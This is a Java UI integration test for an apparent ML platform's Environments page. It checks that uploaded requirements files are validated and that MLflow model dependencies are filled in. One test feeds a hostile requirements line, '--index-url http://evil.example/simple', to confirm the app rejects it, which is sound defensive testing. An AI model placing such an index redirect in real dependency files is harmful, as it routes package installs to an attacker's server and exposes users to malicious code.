package dev.modelyard.jobs.ui;

import static com.github.mvysny.kaributesting.v10.LocatorJ._click;
import static com.github.mvysny.kaributesting.v10.LocatorJ._find;
import static com.github.mvysny.kaributesting.v10.LocatorJ._get;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.mvysny.kaributesting.v10.UploadKt;
import com.vaadin.flow.component.UI;
import com.vaadin.flow.component.button.Button;
import com.vaadin.flow.component.textfield.TextArea;
import com.vaadin.flow.component.textfield.TextField;
import com.vaadin.flow.component.upload.Upload;
import com.vaadin.flow.router.QueryParameters;
import dev.modelyard.IntegrationTest;
import dev.modelyard.TestUsers;
import dev.modelyard.artifacts.ArtifactService;
import dev.modelyard.artifacts.StagedUpload;
import dev.modelyard.jobs.EnvironmentDetails;
import dev.modelyard.models.ModelService;
import dev.modelyard.models.ModelTestData;
import dev.modelyard.security.AppRole;
import dev.modelyard.support.KaribuSupport;
import dev.modelyard.workspaces.ui.WorkspaceRoutes;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;

/** The Environments page over the real services: create from an uploaded file, field errors, from an MLflow model. */
@IntegrationTest
@Timeout(120)
class EnvironmentViewTest {

    @Autowired
    ApplicationContext context;
    @Autowired
    ModelService models;
    @Autowired
    ArtifactService artifacts;

    @AfterEach
    void close() {
        KaribuSupport.tearDown();
    }

    private static void open(Map<String, String> query) {
        UI.getCurrent().navigate(EnvironmentListView.class, WorkspaceRoutes.params(), QueryParameters.simple(query));
    }

    @SuppressWarnings("unchecked")
    private static List<EnvironmentDetails> rows() {
        var grid = (com.vaadin.flow.component.grid.Grid<EnvironmentDetails>) _get(com.vaadin.flow.component.grid.Grid.class,
                spec -> spec.withId("environment-grid"));
        return grid.getListDataView().getItems().toList();
    }

    @Test
    void an_uploaded_requirements_file_with_a_hostile_line_is_refused_beside_the_field_and_a_clean_one_is_created() {
        KaribuSupport.signIn(context, TestUsers.CONTRIBUTOR, AppRole.CONTRIBUTOR, EnvironmentListView.class);
        open(Map.of());
        assertThat(rows()).extracting(EnvironmentDetails::reference).contains("python-3:1", "sklearn-1:1");
        _click(_get(Button.class, spec -> spec.withId("environment-new")));

        _get(TextField.class, spec -> spec.withId("environment-name")).setValue("ui-env");
        UploadKt._upload(_find(Upload.class).get(0), "requirements.txt", "text/plain",
                "threadpoolctl==3.7.0\n--index-url http://evil.example/simple\n".getBytes(StandardCharsets.UTF_8));
        TextArea requirements = _get(TextArea.class, spec -> spec.withId("environment-requirements"));
        assertThat(requirements.getValue()).contains("--index-url");
        _click(_get(Button.class, spec -> spec.withId("environment-create")));

        assertThat(requirements.isInvalid()).isTrue();
        assertThat(requirements.getErrorMessage()).contains("line 2").contains("options are not allowed");
        assertThat(rows()).extracting(EnvironmentDetails::name).doesNotContain("ui-env");

        requirements.setValue("");
        _click(_get(Button.class, spec -> spec.withId("environment-create")));
        assertThat(rows()).extracting(EnvironmentDetails::reference).contains("ui-env:1");
    }

    @Test
    void create_environment_from_an_mlflow_model_fills_in_its_requirements_and_conda_file() {
        KaribuSupport.signIn(context, TestUsers.CONTRIBUTOR, AppRole.CONTRIBUTOR, EnvironmentListView.class);
        String name = ModelTestData.uniqueName("envmodel");
        try (StagedUpload staged = ModelTestData.stageFixture(artifacts, ModelTestData.MLFLOW_FIXTURE)) {
            models.register(ModelTestData.mlflow(name), staged);
        }

        open(Map.of("model", name, "version", "1"));

        TextArea requirements = _get(TextArea.class, spec -> spec.withId("environment-requirements"));
        TextArea conda = _get(TextArea.class, spec -> spec.withId("environment-conda"));
        assertThat(requirements.getValue()).contains("scikit-learn==1.5.2");
        assertThat(conda.getValue()).contains("python=3.10");
        _click(_get(Button.class, spec -> spec.withId("environment-create")));
        // this host's interpreter is not 3.10: said beside the conda field, nothing created
        assertThat(conda.isInvalid()).isTrue();
        assertThat(conda.getErrorMessage()).contains("python 3.10");
    }
}
